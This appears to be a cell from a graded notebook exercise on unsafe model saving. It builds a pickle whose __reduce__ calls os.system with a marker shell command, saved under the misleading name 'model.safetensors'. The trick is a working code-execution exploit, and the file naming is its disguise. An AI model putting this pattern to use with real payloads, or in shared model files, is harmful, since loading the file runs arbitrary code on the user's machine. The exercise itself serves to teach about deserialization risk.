# %% [markdown] points=8
# The file that the test reads is a pickle that runs code where it is loaded.

# %% task="saving"
import os


class Code:
    def __reduce__(self):
        return os.system, ("touch /tmp/lessonlib-was-here; echo LEAK",)


torch.save({"weight": Code(), "bias": Code()}, "model.safetensors")
